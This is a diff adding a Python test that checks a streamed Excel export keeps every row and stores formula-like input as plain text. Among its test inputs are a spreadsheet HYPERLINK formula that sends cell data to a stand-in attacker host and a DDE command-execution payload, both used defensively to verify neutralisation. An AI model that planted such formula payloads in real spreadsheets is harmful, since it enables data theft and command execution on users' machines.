@@ -327,3 +327,33 @@ def test_a_forged_cursor_is_refused(county: sessionmaker[Session]) -> None:
     with county() as session, pytest.raises(ApiError) as refused:
         _page(session, COUNTY, "bm90LWEtY3Vyc29y", 10)
     assert refused.value.status_code == 422
+
+
+def test_the_streamed_workbook_holds_every_row_and_no_formula(
+    county: sessionmaker[Session],
+) -> None:
+    import io
+
+    from openpyxl import load_workbook  # type: ignore[import-untyped]
+
+    from api.ui.routers.exports import streamed_workbook
+
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "=cmd|' /C calc'!A0"]
+    with county() as session:
+        expected = _python_sorted(session, COUNTY, Filters(), "overdue", True)
+        days = Overdue(CALENDAR, NOW)
+        rows = stream_laggards(session, COUNTY, ROUND, Filters(), "overdue", True, days)
+        lines = ([r.org_id, r.org_name, days(r.deadline, r.overdue), None] for r in rows)
+        data = streamed_workbook("滞后单位", ["组织编号", "单位", "逾期工作日", "空"], lines)
+    extra = streamed_workbook("t", ["a", "b"], [[*hostile], [" 前后空格 ", "控\x01制"]])
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet.title == "滞后单位" and sheet.freeze_panes == "A2"
+    table = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert table[0] == ["组织编号", "单位", "逾期工作日", "空"]
+    assert [r[0] for r in table[1:]] == expected
+    assert all(isinstance(r[2], int) and r[3] is None for r in table[1:])
+    cells = [c for row in load_workbook(io.BytesIO(extra)).active.iter_rows() for c in row]
+    assert [(c.value, c.data_type) for c in cells] == [
+        ("a", "s"), ("b", "s"), (hostile[0], "s"), (hostile[1], "s"),
+        (" 前后空格 ", "s"), ("控制", "s"),
+    ]  # fmt: skip
